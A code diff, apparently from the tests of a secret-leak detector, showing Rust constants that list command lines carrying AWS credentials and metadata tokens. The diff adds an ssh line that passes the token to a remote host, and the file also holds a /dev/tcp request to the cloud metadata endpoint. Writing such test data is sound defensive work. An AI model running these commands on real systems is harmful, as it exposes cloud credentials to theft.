@@ -7,7 +7,7 @@ const REQUEST: &str = "exec 3<>/dev/tcp/169.254.169.254/80 && \
      printf 'GET /latest/meta-data/ami-id HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3 >/dev/null";
 
 /// Arguments; `{}` stands for the secret.
-pub const ARGUMENTS: [&[&str]; 42] = [
+pub const ARGUMENTS: [&[&str]; 43] = [
     &["curl", "-H", "X-aws-ec2-metadata-token: {}", "h"],
     &["curl", "-H", "x-aws-EC2-metadata-token:{}", "h"],
     &["curl", "-HX-aws-ec2-metadata-token: {}", "h"],
@@ -50,6 +50,7 @@ pub const ARGUMENTS: [&[&str]; 42] = [
     &["aws", "configure", "set", "aws_secret_access_key", "{}"],
     &["aws", "configure", "set", "aws_session_token", "{}"],
     &["printf", "X-aws-ec2-metadata-token: %s\\r\\nHost: %s\\r\\n", "{}", "h"],
+    &["ssh", "h", "printf 'X-aws-ec2-metadata-token: %s\\r\\n' {} >&3"],
 ];
 
 /// Scripts; `{}` stands for the secret.
